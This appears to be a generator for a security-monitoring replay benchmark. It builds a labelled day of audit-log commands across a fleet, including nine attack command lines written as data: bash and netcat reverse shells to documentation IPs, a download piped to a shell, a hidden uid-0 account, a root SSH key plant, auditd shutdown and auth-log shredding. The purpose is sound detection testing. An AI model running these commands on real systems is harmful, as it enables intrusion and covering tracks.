/**
 * A generated working day for the replay benchmark: hosts, engineers with audit login sessions,
 * system cron with no login user, eight legitimate but suspicious-looking activities, and nine
 * attacks. Every command carries what it really was (its label), so the replay can tell whether
 * the service asked the right person, cleared the right things and escalated every attack.
 */
import { typedCommand } from './command-catalog.js';
import { SeededRandom } from './seeded-random.js';

/** auditd's "not set" login uid and session: what cron and other system actors run with. */
export const UNSET_ID = 4294967295;

export interface Engineer {
  login: string;
  uid: number;
  slackId: string;
  /** Hours (UTC, fractional) when the engineer reads Slack and answers; outside them, nothing. */
  available: Array<[number, number]>;
}

/** What a command really was. */
export type CommandLabel =
  | { kind: 'benign' }
  | { kind: 'system' }
  | { kind: 'legit'; activity: string }
  | { kind: 'attack'; attack: string };

export interface PlannedCommand {
  /** Unique per command (the replay keys its truth on host and time). */
  at: Date;
  host: string;
  login: string;
  uid: number;
  runAs: string;
  runAsUid: number;
  session: number;
  argv: string[];
  cwd: string;
  label: CommandLabel;
}

export interface DayPlan {
  day: Date;
  /** The replay runs to here: the next morning, so every deadline and the day's digest pass. */
  end: Date;
  hosts: string[];
  engineers: Engineer[];
  /** In time order. */
  commands: PlannedCommand[];
  activities: string[];
  attacks: string[];
}

export interface DayPlanOptions {
  seed: number;
  /** About this many commands in all (engineers' everyday work fills the rest). */
  commands: number;
  /** Hosts in the fleet (the deploy runs on every one). */
  hosts?: number;
}

const LOGINS = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi'];
const HOUR = 3_600_000;
const MINUTE = 60_000;
/** Hours replayed: the day and the small hours after it, when only cron runs. */
const REPLAYED_HOURS = 28;

/** The day: Tuesday 24 November 2026, UTC. */
export const REPLAY_DAY = new Date('2026-11-24T00:00:00.000Z');

export function planDay(options: DayPlanOptions): DayPlan {
  const rnd = new SeededRandom(options.seed);
  const hosts = Array.from({ length: options.hosts ?? 25 }, (_, i) => `${['web', 'db', 'app', 'lb', 'build'][i % 5]}-${Math.floor(i / 5) + 1}`);
  const engineers: Engineer[] = LOGINS.map((login, i) => ({
    login,
    uid: 1000 + i,
    slackId: `U${login.toUpperCase()}`,
    // Frank is on call tonight and works late; everyone reads Slack during the working day.
    available: login === 'frank' ? [[8.5, 18.5], [20.75, 23.5]] : [[8.5, 18.5]],
  }));
  const commands: PlannedCommand[] = [];
  const sessions = new SessionNumbers();
  const add = (command: Omit<PlannedCommand, 'runAs' | 'runAsUid'> & { sudo: boolean }) => {
    const { sudo, ...rest } = command;
    commands.push({ ...rest, runAs: sudo ? 'root' : rest.login, runAsUid: sudo ? 0 : rest.uid });
  };
  const at = (hours: number) => new Date(REPLAY_DAY.getTime() + hours * HOUR);
  const byLogin = (login: string) => engineers.find((e) => e.login === login)!;

  addSystemCron(commands, hosts);
  const activities = addActivities({ add, at, byLogin, hosts, sessions, rnd });
  const attacks = addAttacks({ add, at, byLogin, hosts, sessions, rnd });
  addEverydayWork({ add, at, byLogin, engineers, hosts, sessions, rnd, count: Math.max(0, options.commands - commands.length) });

  commands.sort((a, b) => a.at.getTime() - b.at.getTime());
  uniqueTimes(commands);
  const end = new Date(REPLAY_DAY.getTime() + REPLAYED_HOURS * HOUR);
  return { day: REPLAY_DAY, end, hosts, engineers, commands, activities, attacks };
}

/** Hands out audit session numbers, one per login (as the kernel does). */
class SessionNumbers {
  private next = 100;
  take(): number {
    this.next += 1;
    return this.next;
  }
}

interface Builder {
  add: (command: Omit<PlannedCommand, 'runAs' | 'runAsUid'> & { sudo: boolean }) => void;
  at: (hours: number) => Date;
  byLogin: (login: string) => Engineer;
  hosts: string[];
  sessions: SessionNumbers;
  rnd: SeededRandom;
}

/** `name` when the fleet has it, else its first host (small fleets in tests). */
function inFleet(b: Builder, name: string): string {
  return b.hosts.includes(name) ? name : b.hosts[0]!;
}

/**
 * Cron with no login user: hourly run-parts on every host, and Debian's stock cron.daily (passwd's
 * backup compares and copies /etc/shadow) plus logrotate at 06:25, sysstat every ten minutes. A local backup job on the
 * database hosts archives /etc/shadow every four hours: a system actor hit, meant for the digest.
 */
function addSystemCron(commands: PlannedCommand[], hosts: string[]): void {
  const system = (at: Date, host: string, argv: string[], cwd = '/') =>
    commands.push({ at, host, login: 'unset', uid: UNSET_ID, runAs: 'root', runAsUid: 0, session: UNSET_ID, argv, cwd, label: { kind: 'system' } });
  hosts.forEach((host, h) => {
    // Debian's sysstat collects every ten minutes, so a healthy host is never silent for long.
    for (let minute = 5; minute < REPLAYED_HOURS * 60; minute += 10) {
      system(new Date(REPLAY_DAY.getTime() + minute * MINUTE + h * 1000), host, ['/usr/lib/sysstat/debian-sa1', '1', '1']);
    }
    for (let hour = 0; hour < REPLAYED_HOURS; hour += 1) {
      system(new Date(REPLAY_DAY.getTime() + hour * HOUR + 17 * MINUTE + h * 1000), host, ['run-parts', '--report', '/etc/cron.hourly']);
    }
    const daily = REPLAY_DAY.getTime() + 6 * HOUR + 25 * MINUTE + h * 1000;
    system(new Date(daily), host, ['run-parts', '--report', '/etc/cron.daily']);
    system(new Date(daily + 100), host, ['/usr/sbin/logrotate', '/etc/logrotate.conf']);
    for (const file of ['passwd', 'group', 'shadow', 'gshadow']) {
      system(new Date(daily + 200 + file.length), host, ['cmp', '-s', `${file}.bak`, `/etc/${file}`], '/var/backups');
    }
    system(new Date(daily + 300), host, ['cp', '-p', '/etc/shadow', 'shadow.bak'], '/var/backups');
    if (host.startsWith('db-')) {
      for (let hour = 2; hour < 24; hour += 4) {
        system(new Date(REPLAY_DAY.getTime() + hour * HOUR + 5 * MINUTE + h * 1000), host, ['tar', 'czf', '/srv/backup/accounts.tgz', '/etc/passwd', '/etc/shadow'], '/srv/backup');
      }
    }
  });
}

/** The eight legitimate but suspicious-looking activities; returns their names. */
function addActivities(b: Builder): string[] {
  const legit = (activity: string, login: string, hours: number, host: string, session: number, argv: string[], sudo = true) => {
    const person = b.byLogin(login);
    b.add({ at: b.at(hours), host: inFleet(b, host), login, uid: person.uid, session, argv, cwd: `/home/${login}`, sudo, label: { kind: 'legit', activity } });
  };
  // 1. Alice deploys with `curl … | sh` on every host, one login each, 40 s apart (17 minutes).
  b.hosts.forEach((host, i) => legit('fleet deploy (curl | sh on every host)', 'alice', 9.5 + (i * 40) / 3600, host, b.sessions.take(), ['sh', '-c', 'curl -fsSL https://deploy.example.com/install.sh | sh']));
  // 2. Bob debugs the load balancer: tcpdump and nc -l variants in one session over 40 minutes.
  const bobSession = b.sessions.take();
  const captures = [
    ['tcpdump', '-i', 'eth0'],
    ['tcpdump', '-i', 'eth0', 'port', '443', '-w', '/tmp/lb.pcap'],
    ['nc', '-l', '8080'],
    ['tcpdump', '-nn', '-i', 'any', 'host', '10.0.4.2'],
    ['nc', '-lk', '9000'],
    ['tcpdump', '-r', '/tmp/lb.pcap'],
  ];
  captures.forEach((argv, i) => legit('packet capture and listeners in one session', 'bob', 10 + (i * 8) / 60, 'lb-1', bobSession, argv));
  // 3. Carol reads /etc/shadow and /etc/gshadow for the password-age audit.
  const carolSession = b.sessions.take();
  legit('password audit (/etc/shadow read)', 'carol', 10 + 10 / 60, 'db-1', carolSession, ['cat', '/etc/shadow']);
  legit('password audit (/etc/shadow read)', 'carol', 10 + 12 / 60, 'db-1', carolSession, ['cat', '/etc/gshadow']);
  // 4. Dave grants the CI user a sudo rule.
  const daveSession = b.sessions.take();
  legit('sudoers edit for the CI user', 'dave', 11.25, 'build-1', daveSession, ['sh', '-c', "echo 'ci ALL=(root) NOPASSWD: /usr/bin/systemctl restart app' > /etc/sudoers.d/ci"]);
  legit('sudoers edit for the CI user', 'dave', 11.3, 'build-1', daveSession, ['chmod', '0440', '/etc/sudoers.d/ci']);
  // 5. Erin creates a service account for backups and gives it a group.
  const erinSession = b.sessions.take();
  legit('service account created', 'erin', 14.5, 'db-2', erinSession, ['useradd', '-m', '-s', '/bin/bash', 'svc-backup']);
  // 6. Frank, on call, captures DNS traffic at 21:10.
  const frankSession = b.sessions.take();
  legit('out-of-hours DNS capture (on call)', 'frank', 21 + 10 / 60, 'app-2', frankSession, ['tcpdump', '-i', 'any', 'port', '53']);
  // 7. Grace rotates her SSH key.
  const graceSession = b.sessions.take();
  legit('SSH key rotation (authorized_keys)', 'grace', 13 + 3 / 60, 'web-2', graceSession, ['sh', '-c', 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGrace grace@laptop" >> /home/grace/.ssh/authorized_keys']);
  // 8. Heidi stops auditd for a planned audit rules reload during maintenance, then starts it.
  const heidiSession = b.sessions.take();
  legit('audit rules reload (maintenance)', 'heidi', 16.5, 'app-1', heidiSession, ['auditctl', '-D']);
  return [...new Set(['fleet deploy (curl | sh on every host)', 'packet capture and listeners in one session', 'password audit (/etc/shadow read)', 'sudoers edit for the CI user', 'service account created', 'out-of-hours DNS capture (on call)', 'SSH key rotation (authorized_keys)', 'audit rules reload (maintenance)'])];
}

/** The nine attacks, each in a session of its own; returns their names. */
function addAttacks(b: Builder): string[] {
  const names: string[] = [];
  const attack = (name: string, login: string, uid: number, hours: number, host: string, session: number, argv: string[], sudo = true) => {
    if (!names.includes(name)) names.push(name);
    b.add({ at: b.at(hours), host: inFleet(b, host), login, uid, session, argv, cwd: '/tmp', sudo, label: { kind: 'attack', attack: name } });
  };
  const on = (login: string) => b.byLogin(login).uid;
  // 1. A reverse shell on bob's account, repeated five times in ten minutes.
  const shell = b.sessions.take();
  for (let i = 0; i < 5; i += 1) attack('reverse shell, repeated', 'bob', on('bob'), 14 + (i * 2.5) / 60, 'web-3', shell, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'], false);
  // 2. /etc/shadow read at 21:40 in another session of carol, who vouched for the same at 10:10.
  attack('/etc/shadow read in another session after a verification', 'carol', on('carol'), 21 + 40 / 60, 'db-1', b.sessions.take(), ['cat', '/etc/shadow']);
  // 3. Auditing stopped on dave's account.
  attack('audit disabled (systemctl stop auditd)', 'dave', on('dave'), 16 + 20 / 60, 'db-3', b.sessions.take(), ['systemctl', 'stop', 'auditd']);
  // 4. A key added to root's authorized_keys at 03:10 on erin's account.
  attack('authorized_keys added at night', 'erin', on('erin'), 3 + 10 / 60, 'web-4', b.sessions.take(), ['sh', '-c', 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQattacker x@evil" >> /root/.ssh/authorized_keys']);
  // 5. A netcat reverse shell on frank's account during the day.
  attack('netcat reverse shell', 'frank', on('frank'), 11.5, 'app-3', b.sessions.take(), ['nc', '-e', '/bin/sh', '198.51.100.4', '4444'], false);
  // 6. A uid-0 account created on grace's account two minutes after her own key rotation.
  attack('uid 0 account while a question is open', 'grace', on('grace'), 13 + 5 / 60, 'web-5', b.sessions.take(), ['useradd', '-o', '-u', '0', '-g', '0', '-M', 'toor']);
  // 7. Download piped to a shell on heidi's account.
  attack('download piped to a shell', 'heidi', on('heidi'), 15.25, 'app-4', b.sessions.take(), ['sh', '-c', 'curl -s http://198.51.100.9/x.sh | sh']);
  // 8. A listener opened by an account nobody in Slack owns.
  attack('listener by an unknown account', 'mallory', 1666, 12.75, 'web-1', b.sessions.take(), ['nc', '-lvnp', '4444'], false);
  // 9. The audit log wiped on alice's account after hours.
  attack('log tampering after hours', 'alice', on('alice'), 19.5, 'db-2', b.sessions.take(), ['shred', '-u', '/var/log/auth.log']);
  return names;
}

/**
 * Everyday work: each engineer logs in several times a day (a session each, on some host) and
 * types harmless commands at a steady pace; a few sessions start before 08:00 or run past 19:00.
 */
function addEverydayWork(b: Builder & { engineers: Engineer[]; count: number }): void {
  const sessionsPerEngineer = 6;
  const perSession = Math.max(1, Math.round(b.count / (b.engineers.length * sessionsPerEngineer)));
  b.engineers.forEach((person, p) => {
    for (let s = 0; s < sessionsPerEngineer; s += 1) {
      const outOfHours = (p === 2 && s === 0) || (p === 5 && s === sessionsPerEngineer - 1);
      const start = outOfHours ? (s === 0 ? 6.5 : 19.25) : 8.75 + s * 1.5 + b.rnd.next() * 0.5;
      const hours = 0.5 + b.rnd.next();
      const host = b.rnd.pick(b.hosts);
      const session = b.sessions.take();
      for (let i = 0; i < perSession; i += 1) {
        const typed = typedCommand(b.rnd, `/home/${person.login}`, 0);
        b.add({
          at: b.at(start + (hours * i) / perSession),
          host,
          login: person.login,
          uid: person.uid,
          session,
          argv: typed.argv,
          cwd: typed.cwd ?? `/home/${person.login}`,
          sudo: typed.sudo,
          label: { kind: 'benign' },
        });
      }
    }
  });
}

/** Moves colliding timestamps a millisecond apart, so host and time name one command. */
function uniqueTimes(commands: PlannedCommand[]): void {
  let last = -1;
  for (const command of commands) {
    const ms = Math.max(command.at.getTime(), last + 1);
    command.at = new Date(ms);
    last = ms;
  }
}

/** The key the replay matches alerts to commands by. */
export function truthKey(host: string, at: Date): string {
  return `${host}|${at.getTime()}`;
}
